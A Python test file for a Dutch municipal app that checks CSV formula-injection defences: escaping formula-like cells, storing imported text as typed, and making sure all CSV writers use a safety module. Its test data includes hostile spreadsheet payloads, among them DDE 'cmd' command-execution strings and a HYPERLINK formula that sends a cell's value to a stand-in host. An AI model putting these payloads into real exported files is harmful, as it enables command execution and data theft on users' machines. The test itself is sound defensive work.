"""Formula injection: text imported as typed never leaves the app as a live formula."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from pathlib import Path

import pytest

from tests.sync.import_files import csv_bytes, csv_row
from wijkteam.common.csv_safety import escape_formula, formula_safe_writer, is_formula_like
from wijkteam.sync.imports.parse import parse_import

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+31 43 306 1234", "'+31 43 306 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =cmd|' /C calc'!A0", "'  =cmd|' /C calc'!A0"),
        ("＝1+1", "'＝1+1"),  # full-width equals sign
        ("Mevrouw = blij", "Mevrouw = blij"),
        ("gewone tekst", "gewone tekst"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_escape_formula(text: object, escaped: str) -> None:
    assert escape_formula(text) == escaped


def test_imported_formula_text_is_stored_as_typed_and_written_escaped() -> None:
    hostile = [
        '=HYPERLINK("http://voorbeeld.invalid/?"&A1;"Klik")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1;2)",
    ]
    rows = [
        csv_row(zaaknummer=f"ZK-{n}", vraag=text, melder=text, achternaam=f"X{n}")
        for n, text in enumerate(hostile)
    ]
    result = parse_import(csv_bytes(*rows), "a.csv", date(2026, 11, 18))
    questions = [row.checked.report.question for row in result.rows if row.checked]
    assert questions == hostile  # stored exactly as typed

    out = io.StringIO()
    writer = formula_safe_writer(out)
    writer.writerow(["vraag", "melder"])
    writer.writerows([[q, q] for q in questions])
    read_back = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    for cells in read_back[1:]:
        assert all(cell.startswith("'") for cell in cells)
        assert not any(is_formula_like(cell) for cell in cells)


def test_every_csv_writer_goes_through_csv_safety() -> None:
    """csv.writer / csv.DictWriter appear in no module but wijkteam/common/csv_safety.py."""
    offenders = []
    for path in sorted((ROOT / "wijkteam").rglob("*.py")) + sorted((ROOT / "ui").rglob("*.py")):
        if path == ROOT / "wijkteam" / "common" / "csv_safety.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            name = node.attr if isinstance(node, ast.Attribute) else getattr(node, "id", None)
            if name in {"writer", "DictWriter"} and _is_csv(node):
                offenders.append(str(path.relative_to(ROOT)))
            if (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and {a.name for a in node.names} & {"writer", "DictWriter"}
            ):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def _is_csv(node: ast.AST) -> bool:
    return isinstance(node, ast.Attribute) and getattr(node.value, "id", None) == "csv"
